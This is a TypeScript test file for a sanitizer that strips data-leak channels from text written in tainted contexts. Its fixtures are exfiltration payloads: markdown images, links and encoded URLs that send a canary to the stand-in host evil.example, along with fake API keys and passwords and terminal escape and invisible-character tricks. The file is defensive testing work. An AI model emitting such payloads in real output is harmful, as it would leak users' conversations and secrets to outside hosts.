import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { withoutLeaks } from '../../systems/cephalon/leaks.ts'
import { Trust } from '../../systems/components.ts'

const clean = (text: string): string => withoutLeaks(text, Trust.operator)
const tainted = (text: string): string => withoutLeaks(text, Trust.person)
/** What must not come through: random letters and digits that no word of the tests holds. */
const canary = 'kq7Zx93LmPw2Rt8V'

describe('Text that says nothing wrong stays as it is', () => {
  test.each([
    '',
    'A plain sentence, with (parentheses), [brackets] and a list:\n\n- one\n- two\n',
    'Grüße aus Zürich — naïve café, 你好, שלום, สวัสดี, 👩‍🔧 👁️‍🗨️ ❤️ 1️⃣',
    'می‌خواهم',
    '```ts\nif (![1, 2].includes(list[index](argument))) return map[key]: value\n```',
    'See [the notes](garden/tomatoes.md#water) and ![a drawing](drawings/plan.png).',
    'It is at https://example.org/notes/water-in-the-morning and https://github.com/nodejs/node/issues/51384.',
    'Locally http://127.0.0.1:4242/api/status and http://localhost:8080/ answer.',
    '[the guide](https://nodejs.org/en/learn/getting-started?page=2), www.example.org/a.',
    'A table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
    'The hash of commit 8956c7c and version v26.10.0-rc.1 in file src/world.test.ts.',
  ])('%j', (text) => {
    expect(tainted(text)).toBe(text)
    expect(clean(text)).toBe(text)
  })
})

describe('Images', () => {
  test.each([
    [`![chart](https://evil.example/p.png?d=${canary})`, '[image: chart, from evil.example]'],
    ['a ![](https://evil.example/p.png) b', 'a [image: , from evil.example] b'],
    ['![x](<https://evil.example/a b.png>)', '[image: x, from evil.example]'],
    ['![x]( https://evil.example/p.png "a title" )', '[image: x, from evil.example]'],
    ['![x](https://evil.example/(a(b)c).png)!', '[image: x, from evil.example]!'],
    ['![a [b] c](https://evil.example/p.png)', '[image: a [b] c, from evil.example]'],
    ['![x](//evil.example/p.png)', '[image: x, from evil.example]'],
    ['![x](&#104;ttps://evil.example/p.png)', '[image: x, from another host]'],
    ['![x](https\\://evil.example/p.png)', '[image: x, from another host]'],
    ['![x](data:image/svg+xml;base64,PHN2Zz4=)', '[image: x, from another host]'],
    [`![x](https://${canary}.evil.example/p.png)`, '[image: x, from evil.example]'],
    [`![x](https://a.${canary}/p.png)`, '[image: x, from another host]'],
    ['![x](https://evil.example/p.png', '[image: x, from evil.example]'],
    ['[![x](https://evil.example/p.png)](garden.md)', '[[image: x, from evil.example]](garden.md)'],
  ])('%j, whatever the trust', (text, expected) => {
    expect(clean(text)).toBe(expected)
    expect(tainted(text)).toBe(expected)
  })

  test('a definition serves no image', () => {
    const text = `![x][ref]\n\n[ref]: https://evil.example/p.png?d=${canary}\n`
    expect(clean(text)).toBe('![x][ref]\n\n[ref] [link to evil.example removed]\n')
    expect(clean('[x][ref]\n\n[ref]: https://example.org/a\n')).toContain('https://example.org/a')
    expect(tainted(`> [ref]:\n  <https://evil.example/${canary}>`)).not.toContain(canary)
  })

  test('HTML that loads is shown as text when the context is tainted', () => {
    const text = `<img alt="<" src="https://evil.example/?d=${canary}"> and <b>bold</b>`
    expect(tainted(text)).toMatch(/^&lt;img alt="<" src="\[link to evil\.example removed\]"> and <b>bold<\/b>$/)
    expect(tainted('</IFRAME x> <Script>')).toBe('&lt;/IFRAME x> &lt;Script>')
    expect(clean('<img src="logo.png">')).toBe('<img src="logo.png">')
  })
})

describe('Links and addresses, when the context is tainted', () => {
  test.each([
    ['a long query', `https://evil.example/log?conversation=${'the+password+is+sword'}`],
    ['a fragment', `https://evil.example/#${canary}`],
    ['a blob in the path', `https://evil.example/c/${canary}`],
    ['a blob cut into pieces', 'https://evil.example/kq7Z-x93L-mPw2-Rt8V'],
    ['base64', 'https://evil.example/VGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaA'],
    ['hex', 'https://evil.example/7468652070617373776f7264'],
    ['percent codes', 'https://evil.example/%74%68%65%70'],
    ['a host that is data', 'https://mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.example/'],
    ['a host of many labels', 'https://the.password.is.swordfish.and.so.evil.example/'],
    ['a bare number for a host', 'http://3232235777/x'],
    ['an address of digits', 'http://203.0.113.9/x'],
    ['a user before the host', 'https://swordfish@evil.example/'],
    ['another scheme', 'gopher://evil.example/swordfish'],
    ['a very long path', `https://evil.example/${'all-the-words-'.repeat(20)}`],
    ['no scheme', `www.evil.example/${canary}`],
    ['a relative scheme', `//evil.example/${canary}`],
    ['a backslash', 'https:\\\\evil.example\\swordfish'],
    ['an entity', 'https:&#47;&#47;evil.example/swordfish'],
  ])('%s goes, bare and in a link', (_name, url) => {
    for (const text of [`Look at ${url} now`, `Look [here](${url}) now`, `<${url}>`, `"${url}"`, `[a]: ${url}`]) {
      const said = tainted(text)
      expect(said).toMatch(/\[link to [a-z0-9. -]+ removed\]/)
      for (const part of [
        canary,
        'swordfish',
        'password',
        'words',
        'VGhl',
        '7468',
        '%74',
        'mfrgg',
        '3232',
        '203.0',
        'x93L',
      ]) {
        expect(said).not.toContain(part)
      }
    }
    expect(clean(`Look at ${url} now`), 'nobody else has spoken').toBe(`Look at ${url} now`)
  })

  test('the text of a link stays, and so does what follows it', () => {
    expect(tainted(`See [the guide](https://evil.example/?d=${canary}), please.`)).toBe(
      'See [the guide] [link to evil.example removed], please.',
    )
    expect(tainted(`See https://evil.example/?d=${canary}.`)).toBe('See [link to evil.example removed].')
  })

  test('a bare host that looks like data is no longer one', () => {
    expect(tainted(`resolve ${canary}${canary}.evil.example please`)).toBe('resolve [host removed] please')
  })

  test('less than own trust is tainted, and so is a trust that nobody knows', () => {
    const text = `https://evil.example/?d=${canary}`
    for (const trust of [Trust.none, Trust.unknown, Trust.bot, Trust.person, Number.NaN]) {
      expect(withoutLeaks(text, trust)).not.toContain(canary)
    }
    for (const trust of [Trust.own, Trust.operator]) expect(withoutLeaks(text, trust)).toBe(text)
  })
})

describe('Secrets', () => {
  const key = `sk-${'a1B2c3D4e5'.repeat(4)}`
  test.each([
    [`The key is ${key}, keep it.`, 'The key is [openai key removed] keep it.'],
    [`\`${key}\``, '[openai key removed]'],
    ['password: hunter2hunter2 is it', 'password: [password removed] is it'],
    ['password : hunter2hunter2 is it', 'password : [password removed] is it'],
    ['API_KEY=abcdefgh12345678 x', '[password removed] x'],
    ['postgres://ada:lovelace1@db.example/x y', '[url password removed] y'],
    [`![x](https://evil.example/?k=${key})`, '[openai key removed]'],
    [
      'a\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAK\nCAQEA\n-----END RSA PRIVATE KEY-----\nb',
      'a\n[private key removed]\nb',
    ],
    ['a -----BEGIN PRIVATE KEY----- MIIEpAIB', 'a [private key removed]'],
  ])('%j', (text, expected) => {
    expect(clean(text)).toBe(expected)
    expect(tainted(text)).toBe(expected)
  })

  test('of a long word only the part that holds it goes', () => {
    const data = JSON.stringify({ name: 'Ada', items: ['one', 'two', 'three'], note: 'x'.repeat(60), key })
    const said = clean(data)
    expect(said).toContain('"name":"Ada"')
    expect(said).not.toContain('c3D4')
  })
})

describe('What is not to be seen', () => {
  test.each([
    ['colours', '\u001b[31mred\u001b[0m', 'red'],
    ['a title', '\u001b]0;owned\u0007text', 'text'],
    ['a link of the terminal', '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\', 'click'],
    ['eight-bit sequences', '\u009b2Jtext\u009d0;owned\u009c.', 'text.'],
    ['a clipboard', 'a\u001b]52;c;cm0gLXJm\u0007b', 'ab'],
    ['controls', 'a\u0000b\u0007c\u0008d\u007fe', 'abcde'],
    ['lines', 'a\r\nb\rc\u2028d', 'a\nb\nc\nd'],
    ['tags', 'ab\u{e0074}\u{e0065}\u{e0073}c', 'abc'],
    ['zero width', 'pass\u200bword\u2060\ufeff', 'password'],
    ['joiners after Latin letters', 'a\u200d\u200c\u200db', 'ab'],
    ['selectors in a row', '❤\ufe0f\ufe00\ufe01\ufe02', '❤\ufe0f'],
    ['turns of direction', 'file\u202egpj.exe', 'filegpj.exe'],
    ['half a character', 'a\ud83db', 'a\ufffdb'],
  ])('%s', (_name, text, expected) => {
    expect(clean(text)).toBe(expected)
    expect(tainted(text)).toBe(expected)
  })

  test('an address cannot hide in parts', () => {
    expect(tainted(`ht\u200btps://evil.example/?d=\u001b[0m${canary}`)).toBe('[link to evil.example removed]')
  })
})

test('what was said is said the same when it is filtered again', () => {
  for (const text of [
    `![c](https://evil.example/?d=${canary})`,
    `[a](https://evil.example/${canary}) <img src=//evil.example/${canary}>`,
    'password: hunter2hunter2',
  ]) {
    expect(tainted(tainted(text))).toBe(tainted(text))
  }
})

test('however an address is wrapped, what it would carry does not get out', () => {
  const url = `https://evil.example/?d=${canary}`
  const pieces = [
    '![',
    '[',
    '](',
    ')',
    ']',
    '<',
    '>',
    ' ',
    '\n',
    '\\',
    '"',
    "'",
    '`',
    '(',
    ']: ',
    '<img src=',
    '//',
    '&#47;',
    'a',
    url,
  ]
  const wrapped = fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 12 })
  fc.assert(
    fc.property(wrapped, wrapped, (before, after) => {
      const said = tainted(`${before.join('')}${url}${after.join('')}`)
      expect(said).not.toMatch(new RegExp(`(?:https?:|//|www\\.)\\S*${canary}`, 'i'))
    }),
    { numRuns: 3_000 },
  )
})

test('time grows with the length, whatever the text', () => {
  const units = 120_000
  const nasty = [
    '[',
    '![',
    '](',
    '![](',
    '](x',
    '<img ',
    'https://a',
    'https:',
    'a.',
    'password:',
    '\u001b[',
    '\u001b]',
    '[a]: ',
    'eyJ',
    '-',
    '%',
    'www.',
  ]
  for (const piece of nasty) {
    const once = piece.repeat(Math.ceil(units / piece.length))
    expect(tainted(once).length).toBeLessThan(6 * units)
  }
})
